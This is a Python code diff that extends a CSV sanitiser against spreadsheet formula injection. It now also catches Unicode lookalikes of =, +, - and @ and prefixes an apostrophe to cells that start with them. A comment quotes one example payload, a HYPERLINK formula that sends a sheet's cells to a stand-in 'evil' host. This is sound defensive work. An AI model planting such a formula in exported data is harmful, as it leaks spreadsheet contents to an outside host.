@@ -73,17 +73,24 @@ TABLE_ROWS = 10_000
 # What makes a spreadsheet (Excel, LibreOffice Calc, Google Sheets) open a cell as a formula: =, +, - or @ first
 # (after any spaces, which an import may trim), or a tab or carriage return first (OWASP's list). A post's text is a
 # stranger's: =HYPERLINK("http://evil/?"&A1,"click") sent the sheet's cells away when the operator opened the csv.
-_FORMULA = re.compile(r"[\t\r]|\s*[=+\-@]")
+# And the characters that Unicode's compatibility normalisation (NFKC) makes one of those: the full-width ＝ ＋ － ＠
+# of Chinese and Japanese text, the small ﹦ ﹢ ﹣ ﹫, super- and subscript ⁼ ⁺ ₌ ₊, ⩵ (==), ⩶ (===) and Hebrew's
+# alternative plus ﬩. A Chinese or Japanese input method types them, and a spreadsheet that folds them so as it reads
+# a cell runs the same formula. LibreOffice 7.4 opening a csv was seen to take none of them for one (nor a "+", "-" or
+# "@": only "="); Excel and Google Sheets were not checked. After a ' each is text wherever it is read, at the cost of
+# a ' before a few texts. test_query_csv checks that this is all of NFKC's (computing it at import takes 0.5 s).
+_LOOKALIKES = "\uff1d\ufe66\u207c\u208c\u2a75\u2a76\uff0b\ufe62\u207a\u208a\ufb29\uff0d\ufe63\uff20\ufe6b"
+_FORMULA = re.compile(rf"[\t\r]|\s*[=+\-@{_LOOKALIKES}]")
 # A number written as text (printf('%.2f', -1.5)) is read as that number, no formula: it stays as it is.
 _NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
 # What a formula's cell starts with but a space: most cells start with neither, and are let by without a match.
-_FORMULA_FIRST = frozenset("=+-@")
+FORMULA_FIRST = frozenset("=+-@" + _LOOKALIKES)
 
 
 def spreadsheet_cell(value: Any) -> Any:
     """``value`` with a ' before it where it is text a spreadsheet would take for a formula (the quote marks a cell as
     text); numbers, and text that is one, as they are."""
-    if (isinstance(value, str) and value and (value[0] in _FORMULA_FIRST or value[0].isspace())
+    if (isinstance(value, str) and value and (value[0] in FORMULA_FIRST or value[0].isspace())
             and _FORMULA.match(value) and not _NUMBER.fullmatch(value)):
         return "'" + value
     return value
